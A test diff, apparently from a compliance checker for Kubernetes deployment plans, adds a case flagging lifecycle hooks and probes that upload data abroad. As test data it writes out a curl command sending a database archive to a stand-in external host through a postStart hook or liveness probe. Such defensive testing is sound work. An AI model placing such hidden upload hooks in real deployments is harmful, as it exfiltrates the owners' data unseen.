@@ -589,4 +589,33 @@ describe("a Kubernetes container's command or args not known at preview", () => 
     // Twin: a private address passes.
     expect(await judged(rsync([{ name: "DEST", value: "10.0.1.5" }]), "export")).toEqual([]);
   });
+
+  // Red team 86 (k05): a postStart hook's command runs in the container as its command does, and
+  // its upload abroad passed unread.
+  test("reads what its lifecycle hooks and probes run", async () => {
+    const upload = ["sh", "-c", "curl -T /data/db.tgz https://collector.example.de/u"];
+    for (const key of ["lifecycle", "livenessProbe"]) {
+      const exec = { exec: { command: upload } };
+      const plan = deployment({
+        command: ["sleep", "3600"],
+        [key]: key === "lifecycle" ? { postStart: exec } : exec,
+      })(oregon);
+      expect(await judged(plan, "export")).toEqual([
+        "mandatory: collector.example.de (a host the pack cannot place in a country)",
+      ]);
+    }
+    const unknownHook = deployment({
+      command: ["sleep", "3600"],
+      lifecycle: { preStop: { exec: { command: ["sh", "-c", unknown] } } },
+    })(oregon);
+    expect(await judged(unknownHook, "export")).toEqual([
+      "mandatory: spec.template.spec.containers[0].lifecycle.preStop.exec.command[2] (unknown at preview)",
+    ]);
+    // Twin: a probe that reads a local file sends nothing.
+    const probe = deployment({
+      command: ["sleep", "3600"],
+      readinessProbe: { exec: { command: ["cat", "/tmp/ready"] } },
+    })(oregon);
+    expect(await judged(probe, "export")).toEqual([]);
+  });
 });
